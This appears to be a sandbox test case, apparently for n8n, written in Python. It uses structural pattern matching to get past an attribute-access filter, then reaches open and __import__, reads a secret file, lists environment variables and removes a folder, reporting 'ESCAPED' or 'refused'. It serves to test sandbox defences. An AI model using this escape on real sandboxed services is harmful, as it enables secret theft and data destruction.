# expect: done
# idea: read attributes with class patterns, without a dot or a string in sight
# source: n8n
def tick(ctx):
    Function, Module = type(print), type(__builtins__["__import__"]("json"))
    match print:
        case Function(__self__=Module(open=reader, __import__=door)):
            try:
                print("ESCAPED: read", reader(ctx.config["secret_file"]).read())
            except Exception as error:
                print("refused:", error)
    match door("os"):
        case Module(environ=environ, getppid=parent, rmdir=remover):
            print(sorted(environ)[:3], parent())
            try:
                print("ESCAPED: removed", remover(ctx.config["folder"]))
            except Exception as error:
                print("refused:", error)
